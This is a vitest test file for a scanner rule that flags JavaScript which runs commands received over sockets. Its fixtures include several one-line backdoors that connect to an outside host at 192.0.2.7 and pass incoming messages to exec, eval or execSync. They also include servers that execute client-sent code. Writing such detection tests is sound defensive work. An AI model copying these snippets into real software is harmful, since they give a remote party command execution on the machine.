import { describe, expect, it } from 'vitest';
import { hitsOf } from '../../../test/support/analyse.ts';
import detector from './socket-message-to-code.ts';

describe('socket-message-to-code', () => {
  it('catches command loops', async () => {
    const lures = [
      `const io = require('socket.io-client'); const { exec } = require('child_process'); const s = io('http://192.0.2.7:5918'); s.on('command', (msg) => { exec(msg.code, (e, out) => s.emit('r', out)); });`,
      `const WebSocket = require('ws'); const ws = new WebSocket('ws://192.0.2.7:1'); ws.on('message', (m) => eval(m.toString()));`,
      `const net = require('net'); const c = net.connect(4444, '192.0.2.7'); c.on('data', d => { require('child_process').execSync(d.toString()); });`,
    ];
    for (const lure of lures) expect(await hitsOf(detector, { 'a.js': lure }), lure).toHaveLength(1);
  });

  it('twin: servers that run what their clients send', async () => {
    const servers = [
      `const { Server } = require('socket.io'); const { exec } = require('child_process'); module.exports = (h) => { const io = new Server(h); io.on('connection', (socket) => { socket.on('run', (cmd) => exec(cmd)); }); };`,
      `const io = require('socket.io')(server); const { exec } = require('child_process'); io.on('connection', (socket) => { socket.on('run', (cmd) => exec(cmd)); });`,
      `import { WebSocketServer } from 'ws'; import { exec } from 'child_process'; const wss = new WebSocketServer({ port: 1 }); wss.on('connection', (ws) => { ws.on('message', (cmd) => exec(cmd.toString())); });`,
      `const WebSocket = require('ws'); const wss = new WebSocket.Server({ port: 1 }); wss.on('connection', (ws) => { ws.on('message', (code) => eval(code.toString())); });`,
    ];
    for (const server of servers)
      expect(
        (await hitsOf(detector, { 'a.js': server })).map((hit) => hit.weight),
        server,
      ).toEqual(['weak']);
  });

  it('twin: a chat that shows messages, a ping with a fixed program', async () => {
    const code = `const io = require('socket.io-client'); const { exec } = require('child_process'); const s = io('http://192.0.2.7'); s.on('m', (m) => { console.log(m); exec('ping -c 1 ' + m.host); });`;
    expect(await hitsOf(detector, { 'a.js': code })).toEqual([]);
  });
});
